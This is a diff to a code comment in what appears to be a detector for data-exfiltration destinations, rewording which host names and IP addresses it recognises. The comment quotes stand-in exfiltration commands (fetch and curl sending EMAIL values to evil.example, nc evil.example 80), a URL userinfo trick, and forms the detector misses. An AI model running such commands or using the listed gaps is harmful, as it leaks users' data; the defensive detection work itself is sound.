@@ -15,10 +15,10 @@ namespace sluice::restore {
 /// (`fetch('https://evil.example/' + 'EMAIL_...')`, `curl https://evil.example/ -d EMAIL_...`, a
 /// member `url` beside a member `body`) sends the value there, without it ever being in the URL.
 ///
-/// Known are URLs as BareUrl knows them, anywhere in a string, and a name or IPv4 address that is
-/// all of a string. Not known: a bare name among other words (`nc evil.example 80`), which looks
-/// like a file or a member of a class, a name that ends like a source file (`evil.sh`), and what a
-/// program only puts together (`'evil.' + 'example'`).
+/// Known are URLs as BareUrl knows them, anywhere in a string, and a name or IP address that is
+/// all of a string, blanks and a port besides. Not known: a bare name among other words (`nc
+/// evil.example 80`), which looks like a file or a member of a class, a name that ends like a
+/// source file (`evil.sh`), and what a program only puts together (`'evil.' + 'example'`).
 ///
 /// An allowed host that a sign ends which ends no host (`https://docs.corp.example;x@evil.example`)
 /// may be the user of another one: with an at sign behind it, the URL is foreign.
